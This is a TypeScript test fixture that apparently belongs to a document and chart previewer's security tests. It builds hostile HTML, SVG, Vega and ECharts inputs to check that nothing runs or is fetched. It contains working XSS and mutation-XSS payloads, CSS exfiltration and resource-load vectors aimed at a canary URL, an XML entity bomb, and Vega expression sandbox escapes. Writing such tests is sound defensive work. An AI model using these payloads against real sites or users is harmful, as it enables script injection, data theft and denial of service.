import type { Canary, HostileCase } from './hostile-case.ts'

/** Rows 45, 46, 49 and 50: documents, drawings and charts. */
export const frameCases: readonly HostileCase[] = [
  { row: 45, file: 'scripts.html', content: scripts, shows: 'scripts stand here' },
  { row: 45, file: 'addresses.html', content: addresses, shows: 'addresses stand here' },
  { row: 45, file: 'styles.html', content: styles, shows: 'styles stand here' },
  { row: 45, file: 'mutating.html', content: mutating, shows: 'mutating stands here' },
  { row: 46, file: 'scripts.svg', content: drawing, shows: 'Drawing' },
  { row: 46, file: 'bomb.svg', content: entityBomb, shows: 'Drawing' },
  { row: 46, file: 'filters.svg', content: filters, shows: 'Drawing' },
  { row: 49, file: 'expressions.vg.json', content: vegaExpressions, shows: 'This chart cannot be drawn' },
  { row: 49, file: 'addresses.vg.json', content: vegaAddresses, shows: 'Nothing is fetched from elsewhere' },
  { row: 49, file: 'links.vl.json', content: vegaLinks, shows: 'links stand here' },
  { row: 49, file: 'rows.vl.json', content: vegaRows, shows: 'more than 2,000,000 rows' },
  { row: 49, file: 'endless.vl.json', content: vegaEndless, shows: 'still computing after 15 seconds' },
  { row: 50, file: 'option.json', content: echarts, shows: 'formatter' },
]

function scripts({ url, script }: Canary): string {
  return `<!doctype html><html><head><base href="${url}base/"><meta http-equiv="refresh" content="0;url=${url}refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *"><script>${script}</script>
<script src="${url}s.js"></script><script type="module">${script}</script><script src="relative.js"></script></head>
<body onload="${script}" onpageshow="${script}"><h1>scripts stand here</h1>
<img src=x onerror="${script}"><svg onload="${script}"><script>${script}</script></svg>
<details open ontoggle="${script}"><summary>a</summary></details><input autofocus onfocus="${script}">
<iframe srcdoc="<script>parent.location='${url}srcdoc'</script>"></iframe><iframe src="${url}iframe"></iframe>
<object data="${url}object"></object><embed src="${url}embed"><portal src="${url}portal"></portal>
<a id=a href="javascript:${script}">a</a><a href="${url}ping" ping="${url}ping">b</a><area href="javascript:${script}">
<form id=f action="${url}form" method=post target=_top><input name=a value=1><button formaction="${url}formaction">c</button></form>
<math><mtext><mglyph><style><img src=x onerror="${script}"></style></mglyph></mtext></math>
<template><script>${script}</script></template><noscript><p title="</noscript><img src=x onerror=${script}>"></noscript></body></html>`
}

function addresses({ url }: Canary): string {
  return `<html><head><link rel=stylesheet href="${url}a.css"><link rel=preconnect href="${url}"><link rel=dns-prefetch href="${url}">
<link rel=prefetch href="${url}prefetch"><link rel=icon href="${url}icon"><link rel=manifest href="${url}manifest">
<link rel=modulepreload href="${url}m.js"></head><body background="${url}background"><h1>addresses stand here</h1>
<img src="${url}img"><img srcset="${url}srcset 1x"><picture><source srcset="${url}source"><img src="//${url.slice(7)}bare"></picture>
<video src="${url}video" poster="${url}poster" autoplay></video><audio src="${url}audio" autoplay></audio>
<table background="${url}table"><tr><td background="${url}td">a</td></tr></table>
<svg><image href="${url}svgimage"/><use href="${url}use#a"/><feImage href="${url}fe"/></svg>
<input type=image src="${url}input"><script src="${url}script"></script><bgsound src="${url}bg"></body></html>`
}

function styles({ url }: Canary): string {
  return `<html><head><style>@import "${url}import.css"; @import url(${url}import2.css);
@font-face { font-family: a; src: url(${url}font) } body { font-family: a; background: url("${url}css") }
h1[title^=a] { background: url(${url}exfil) } @media screen { p { list-style-image: url(${url}list) } }
p { background: image-set("${url}set" 1x); cursor: url(${url}cursor), auto; content: url(${url}content) }
@namespace url(${url}ns); :root { --a: url(${url}var); border-image: var(--a) }
p { behavior: url(${url}htc); -moz-binding: url(${url}xbl) }</style></head>
<body style="background-image: url('${url}attr')"><h1 title=abc>styles stand here</h1><p style='mask: url(${url}mask)'>a</p></body></html>`
}

/** Texts that were other trees after they were cleaned and written again. */
function mutating({ script }: Canary): string {
  return `<h1>mutating stands here</h1>
<form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}"></style></mglyph></form></mtext></math>
<svg></p><style><a id="</style><img src=1 onerror=${script}>"></style></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror="${script}"></style></annotation-xml></math>
<svg><desc><noscript><p id="</noscript><img src=x onerror=${script}>"></p></noscript></desc></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror='${script}'>"></a>
<div id=body></div><img name=body><img name=getElementById><form id=documentElement></form><a id=currentScript></a>`
}

function drawing({ url, script }: Canary): string {
  return `<?xml version="1.0"?><?xml-stylesheet href="${url}xsl" type="text/xsl"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40" onload="${script}">
<script>${script}</script><script href="${url}s.js"/><style>@import "${url}svg.css"; rect { fill: url(${url}fill#a) }</style>
<foreignObject width="40" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${url}iframe"/><img src="${url}img"/></body></foreignObject>
<a xlink:href="javascript:${script}"><rect width="40" height="40"/></a><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;script/&gt;&lt;/svg&gt;#x"/>
<image href="${url}image" width="9" height="9"/><feImage href="${url}fe"/><animate attributeName="href" values="javascript:${script}" begin="0s"/>
<set attributeName="onmouseover" to="${script}"/></svg>`
}

function entityBomb(): string {
  const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join('')
  return `<!DOCTYPE svg [<!ENTITY a0 "ha">${entities}]><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>&a9;</text></svg>`
}

function filters(): string {
  const filter = '<feTurbulence baseFrequency="0.01" numOctaves="9"/><feGaussianBlur stdDeviation="99"/>'
  return `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90"><filter id="f">${filter.repeat(10_000)}</filter><rect width="90" height="90" filter="url(#f)"/></svg>`
}

/** Known ways out of Vega's expressions (CVE-2025-59840, vega#3018, #3984). */
function vegaExpressions({ script }: Canary): string {
  const code = JSON.stringify(script).slice(1, -1)
  const signals = [
    `event.view.eval('${code.replaceAll("'", '"')}')`,
    "{}.constructor.constructor('globalThis.__pwned=1')()",
    "[].map.constructor('globalThis.__pwned=1')()",
    'scale(event.view.setTimeout, 1)',
    "replace('a', 'a', {toString: event.view.alert})",
  ]
  return JSON.stringify({
    $schema: 'https://vega.github.io/schema/vega/v5.json',
    width: 50,
    height: 50,
    signals: signals.map((update, at) => ({ name: `s${at}`, init: update, on: [{ events: 'window:load', update }] })),
  })
}

function vegaAddresses({ url }: Canary): string {
  return JSON.stringify({
    $schema: 'https://vega.github.io/schema/vega/v5.json',
    data: [
      { name: 'a', url: `${url}data.csv` },
      { name: 'b', url: { signal: `'${url}signal'` } },
    ],
    marks: [{ type: 'image', from: { data: 'a' }, encode: { enter: { url: { value: `${url}image.png` } } } }],
  })
}

function vegaLinks({ url, script }: Canary): string {
  const values = [
    { a: 1, link: `javascript:${script}`, image: `${url}mark.png` },
    { a: 2, link: `${url}link` },
  ]
  return JSON.stringify({
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    title: 'links stand here',
    data: { values },
    mark: { type: 'point', tooltip: { content: 'data' } },
    encoding: {
      x: { field: 'a', type: 'quantitative' },
      href: { field: 'link' },
      tooltip: { value: `<img src=${url}tip>` },
    },
    usermeta: { embedOptions: { loader: { baseURL: url }, actions: true } },
  })
}

function vegaRows(): string {
  return JSON.stringify({
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { sequence: { start: 0, stop: 100_000_000, as: 'a' } },
    mark: 'point',
    encoding: { x: { field: 'a', type: 'quantitative' } },
  })
}

function vegaEndless(): string {
  return JSON.stringify({
    $schema: 'https://vega.github.io/schema/vega-lite/v5.json',
    data: { sequence: { start: 0, stop: 100_000, as: 'a' } },
    transform: [{ calculate: 'length(sequence(1000000))', as: 'b' }],
    mark: 'point',
    encoding: { x: { field: 'b', type: 'quantitative' } },
  })
}

/** ECharts is not run here: its options are JSON, and stay text. */
function echarts({ script }: Canary): string {
  return JSON.stringify({
    tooltip: { formatter: `<img src=x onerror="${script}">` },
    series: [{ type: 'bar', data: [1] }],
  })
}
